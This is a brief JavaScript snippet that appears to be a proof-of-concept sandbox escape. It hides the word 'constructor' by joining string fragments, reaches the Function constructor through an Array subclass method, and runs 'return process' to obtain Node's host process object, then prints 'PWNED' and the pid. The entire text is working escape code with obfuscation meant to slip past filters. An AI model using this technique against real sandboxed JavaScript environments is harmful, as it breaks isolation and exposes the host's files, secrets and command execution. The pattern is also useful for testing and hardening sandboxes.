const w = ['con', 'structor'].join('');
class L extends Array { go(f) { return f[w]; } }
new L().go({});
const fn = (x) => x;
console.log('PWNED', L.from([1]).map((x) => x).go(fn)('return process')().pid);
